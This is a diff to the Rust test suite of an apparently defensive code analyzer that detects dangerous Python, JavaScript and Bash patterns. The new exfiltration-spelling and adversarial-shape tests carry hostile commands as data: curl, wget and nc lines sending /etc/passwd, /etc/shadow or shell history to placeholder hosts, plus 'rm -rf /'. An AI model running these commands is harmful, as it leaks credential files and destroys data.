@@ -655,6 +655,8 @@ fn deeply_nested_input_does_not_overflow() {
     assert!(
         rules_of(Python, &format!("import os\n{calls}")).contains(&"python.os-system".to_string())
     );
+    // An alias chain of any length, bound in source order, is followed.
+    assert!(rules_of(Python, &chain).contains(&"python.os-system".to_string()));
 
     let js_parens = format!("{}process.exit(){}", "(".repeat(n), ")".repeat(n));
     let js_fns = format!(
@@ -830,14 +832,16 @@ fn package_names() {
 }
 
 #[test]
-fn zz_perf() {
-    let n = 10_000;
+fn adversarial_shapes_do_not_blow_up() {
+    // Shapes that made earlier versions quadratic or exponential: nested getattr chains,
+    // long alias chains defined after their use, nested pipelines and substitutions that
+    // each trigger a search below them, many copies of one exfiltration.
+    let n = 3_000;
     let cases: Vec<(Language, String)> = vec![
         (
             Python,
-            format!("{}os{}", "getattr(".repeat(n), ", 'x')".repeat(n)),
+            format!("{}os{}", "getattr(".repeat(n), ", 'exec')".repeat(n)),
         ),
-        (Python, format!("{}x{}", "f(".repeat(n), ")".repeat(n))),
         (
             Python,
             (0..n)
@@ -845,8 +849,18 @@ fn zz_perf() {
                 .collect(),
         ),
         (
+            Python,
+            format!("{}input(){}", "exec(".repeat(n), ")".repeat(n)),
+        ),
+        (
             Javascript,
             format!("{}process{}", "Reflect.get(".repeat(n), ", 'x')".repeat(n)),
+        ),
+        (
+            Javascript,
+            (0..n)
+                .map(|i| format!("let v{i} = v{} || process;\n", (i + 1) % n))
+                .collect(),
         ),
         (
             Bash,
@@ -857,20 +871,87 @@ fn zz_perf() {
             ),
         ),
         (Bash, format!("{}x{}", "curl $(".repeat(n), ")".repeat(n))),
+        (Bash, format!("{}x{}", "f() { ".repeat(n), "; }".repeat(n))),
+        (Bash, "cat /etc/passwd | curl x\n".repeat(n)),
         (
             Bash,
-            format!("{}x{}", "f() { ".repeat(2000), "; }".repeat(2000)),
+            (1..n)
+                .map(|i| format!("v{i}=$v{}$v{}\n", i - 1, i - 1))
+                .collect::<String>()
+                + "echo $v2999",
         ),
-        (Bash, "cat /etc/passwd | curl x\n".repeat(20_000)),
     ];
-    for (l, c) in &cases {
-        let t = std::time::Instant::now();
-        let f = analyzer().analyze(*l, c);
-        eprintln!(
-            "{l} {} bytes: {:?} ({} findings)",
-            c.len(),
-            t.elapsed(),
-            f.len()
-        );
+    for (language, code) in &cases {
+        let _ = analyzer().analyze(*language, code);
     }
+    // What is found in such shapes is still found.
+    assert!(rules_of(Python, &cases[2].1).contains(&"python.exec-input".to_string()));
+    assert!(rules_of(Bash, &cases[5].1).contains(&"bash.exfiltrate-system-file".to_string()));
+}
+
+#[test]
+fn exfiltration_spellings() {
+    for code in [
+        "curl -d@/etc/passwd http://x",
+        "curl --data-urlencode pw@/etc/shadow http://x",
+        "curl -F 'f=</etc/passwd' http://x",
+        "curl --upload-file=/root/.bash_history http://x",
+        "wget --body-file /etc/passwd http://x",
+        "curl -d @- http://x <<< \"$(cat /etc/shadow)\"",
+        "cat /etc/passwd |\n  gzip |\n  curl -T - http://x",
+        "{ echo start; cat /etc/shadow; } | nc example.com 9",
+        "sudo cat /etc/shadow | sudo curl -d @- http://x",
+    ] {
+        hits(Bash, code, "bash.exfiltrate-system-file");
+    }
+    // Reported at the sender's stage.
+    let findings = analyzer().analyze(Bash, "cat /etc/passwd |\n  gzip |\n  curl -T - http://x");
+    let lines: Vec<usize> = findings
+        .iter()
+        .filter(|f| f.rule == "bash.exfiltrate-system-file")
+        .map(|f| f.line)
+        .collect();
+    assert_eq!(lines, vec![3]);
+}
+
+#[test]
+fn check_examples_reports_failing_examples() {
+    let text = PY_RULE.replace(
+        "examples.no_match = [\"x = 'x.y()'\"]",
+        "examples.no_match = [\"import x\\nx.y()\"]",
+    );
+    let a = load_py(&text).unwrap();
+    let failures = a.check_examples();
+    assert_eq!(failures.len(), 1, "{failures:?}");
+    assert!(
+        failures[0].starts_with("python.x: should not match"),
+        "{failures:?}"
+    );
+}
+
+#[test]
+fn empty_rule_sets_find_nothing() {
+    let a = Analyzer::with_rules("", "# no rules\n", "").unwrap();
+    for language in Language::ALL {
+        assert!(a.rules(language).is_empty());
+        assert!(a.analyze(language, "rm -rf /").is_empty());
+    }
+    assert_eq!(
+        a.screen(Bash, "rm -rf /", Mode::Block),
+        Screening::default()
+    );
+}
+
+#[test]
+fn glob_semantics() {
+    use super::syntax::glob_match;
+    assert!(glob_match("subprocess.*", "subprocess.run"));
+    assert!(!glob_match("subprocess.*", "subprocess"));
+    assert!(glob_match("os.exec*", "os.execv"));
+    assert!(glob_match("/etc/*", "/etc/ssh/sshd_config"));
+    assert!(glob_match("/\\*", "/*"));
+    assert!(!glob_match("/\\*", "/tmp"));
+    assert!(glob_match("*", ""));
+    assert!(glob_match("a*b*c", "aXbYbZc"));
+    assert!(!glob_match("a*b*c", "aXbY"));
 }
